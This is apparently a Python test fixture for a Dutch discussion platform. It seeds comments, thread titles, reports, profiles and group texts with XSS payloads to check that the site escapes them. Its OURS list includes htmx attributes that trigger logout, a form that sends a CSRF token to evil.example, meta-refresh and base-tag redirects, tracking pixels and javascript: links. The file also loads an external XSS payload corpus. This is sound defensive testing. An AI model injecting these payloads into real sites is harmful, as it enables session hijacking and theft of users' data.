"""Hostile text, and a Kring in which it stands in every field that shows what somebody typed."""

import gzip
import json
from dataclasses import dataclass, field
from datetime import timedelta
from pathlib import Path
from urllib.parse import quote
from uuid import UUID

from kring.discussion.actions.comments import write_comment
from kring.discussion.actions.imports import BroughtComment, bring_comments
from kring.discussion.actions.reports import report
from kring.groups.actions.founding import create_group
from kring.groups.texts import GroupText
from kring.identity.actions import NewAccount, create_account
from kring.kit.ids import new_id
from kring.kit.markup import render
from kring.kit.names import PersonName
from kring.people.actions import ProfileText, add_expertise, save_profile
from kring.topics.actions import describe_topic
from tests.cast import Cast
from tests.jobs import run_jobs

EACH, PER_COMMENT, PER_PAGE = 500, 20, 60
# What htmx would act upon, and what would break out of our own boxes (trust.md L21).
OURS = [
    f"{opening}<{tag} {act}{trigger}>x</{tag}>"
    for opening in ("", "</div></div></article>", "<p>", "- ")
    for tag in ("div", "button", "a")
    for act in ("hx-post='/accounts/logout/'", "data-hx-get='//evil.example/'", "hx-on:load='fired.push(1)'")
    for trigger in ("", " hx-trigger='load'", " data-hx-trigger='every 1s'")
] + [
    "<form action='https://evil.example/'><input name=csrfmiddlewaretoken><button>x</button></form>",
    "<base href='https://evil.example/'>",
    "<meta http-equiv='refresh' content='0;url=https://evil.example/'>",
    "<img src='https://evil.example/pixel.gif'>",
    "![x](https://evil.example/pixel.gif)",
    "[x](javascript:fired.push(1))",
    "<link rel=stylesheet href='https://evil.example/x.css'>",
    "<script src='/s/ui/kring.js'></script><script>fired.push(1)</script>",
]


def payloads(folder: Path) -> list[str]:
    """Every payload of the set that could act, with our own."""
    with gzip.open(folder / "xss-payloads.txt.gz", "rt", encoding="utf-8", errors="replace") as lines:
        found = [line.rstrip("\n").replace("\0", "") for line in lines]
    with gzip.open(folder / "dompurify-expect.jsonl.gz", "rt", encoding="utf-8") as lines:
        found += [json.loads(line)["payload"] for line in lines]
    return OURS + [text for text in found if text.strip()]


def packed(texts: list[str], size: int) -> list[str]:
    """The texts that fit, joined up to `size` characters; for fields that are only ever escaped."""
    packs = [""]
    for text in texts:
        if len(text) > size:
            continue
        if len(packs[-1]) + len(text) + 1 > size:
            packs.append("")
        packs[-1] = f"{packs[-1]} {text}".strip()
    return packs


@dataclass
class Trap:
    """Where hostile text stands: `visits` are (who looks, address)."""

    cast: Cast
    texts: list[str]
    visits: list[tuple[str, str]] = field(default_factory=list)

    @property
    def short(self) -> list[str]:
        """At least 500 payloads that fit in the smaller fields."""
        return sorted({text for text in self.texts if 12 <= len(text) <= 75}, key=len)[-EACH - 100 :]

    def set_up(self) -> None:
        """Put it everywhere."""
        self.in_comments()
        self.in_titles()
        self.in_people()
        self.in_groups()
        run_jobs()
        for words in self.short[::25]:
            self.visits.append(("member", f"/search/?q={quote(words)}"))

    def in_comments(self) -> None:
        """All of it as comments; a part of it through the action, the rest as an import brings it."""
        for start in range(0, len(self.texts), PER_COMMENT * PER_PAGE):
            thread = self.cast.publish("member", title="Wat staat hier?")
            rest = self.texts[start : start + PER_COMMENT * PER_PAGE]
            packs = [rest[at : at + PER_COMMENT] for at in range(0, len(rest), PER_COMMENT)]
            bring_comments(comments=[self._brought(thread.pk, pack) for pack in packs])
            for text in rest[::40]:
                write_comment(
                    thread_id=thread.pk, source=text, writer=self.cast.viewer("owner"), now=self.cast.now
                )
            self.visits.append(("member", f"/threads/{thread.pk}/"))

    def _brought(self, thread_id: UUID, pack: list[str]) -> BroughtComment:
        html = "".join(render(text, people={}, topics={}).html for text in pack)
        return BroughtComment(
            id=new_id(self.cast.now), thread_id=thread_id, author_id=self.cast.member.pk, kind="comment",
            source="\n".join(pack), html=html, text=" ".join(pack), created_at=self.cast.now,
        )  # fmt: skip

    def in_titles(self) -> None:
        """Titles and texts of conversations, reasons of reports, and the name and text of a topic."""
        titles, threads = packed(self.short, 199), []
        for title in titles:
            self.cast.now += timedelta(seconds=1)
            thread = self.cast.publish("member", "open", title=title, source=title, topics=("valstrik",))
            threads.append(thread.pk)
        for thread_id, reason in zip(threads, packed(self.short, 999), strict=False):
            reporter = self.cast.viewer("owner")
            report(thread_id=thread_id, comment_id=None, reason=reason, reporter=reporter, now=self.cast.now)
        describe_topic(slug="valstrik", name=titles[0][:60], text=titles[1], now=self.cast.now)
        self.visits += [
            ("moderator", "/reports/"),
            ("owner", "/reports/"),
            ("owner", "/notices/"),
            ("member", "/"),
        ]
        self.visits += [("member", "/topics/valstrik/"), ("owner", "/groups/groep-open/")]

    def in_people(self) -> None:
        """Names, functions, expertise and all that a profile tells."""
        names, lines, pages = packed(self.short, 79), packed(self.short, 119), packed(self.short, 1499)
        phones = [text for text in self.texts if len(text) <= 40]
        for number in range(0, len(names) - 1, 2):
            name = PersonName(names[number], "", names[number + 1])
            person = NewAccount(email=f"trap{number}@waterrijk.example", name=name)
            account = create_account(person=person, by=None, now=self.cast.now)
            self.cast.accounts["trap"] = account
            told = ProfileText(
                function=lines[number % len(lines)],
                about=pages[number // 2 % len(pages)],
                private_about=pages[number // 2 % len(pages)],
                phone=phones[number % len(phones)],
                languages=lines[(number + 1) % len(lines)],
            )
            save_profile(actor=self.cast.viewer("trap"), text=told, now=self.cast.now)
            for word in self.short[number : number + 2]:
                add_expertise(actor=self.cast.viewer("trap"), name=word, now=self.cast.now)
            if number // 2 < len(pages):
                self.visits.append(("member", f"/people/{account.handle}/"))
        self.visits += [("administrator", "/administration/accounts/"), ("member", "/people/")]

    def in_groups(self) -> None:
        """Names, purposes and welcomes of groups, also in the menu of their owner."""
        names, purposes, welcomes = (packed(self.short, size) for size in (79, 499, 999))
        for number, purpose in enumerate(purposes):
            welcome = welcomes[number % len(welcomes)]
            text = GroupText(name=names[number], purpose=purpose, welcome=welcome)
            group = create_group(actor=self.cast.viewer("owner"), text=text, now=self.cast.now)
            if number < len(welcomes):
                self.visits.append(("owner", f"/groups/{group.slug}/"))
        self.visits.append(("owner", "/groups/"))
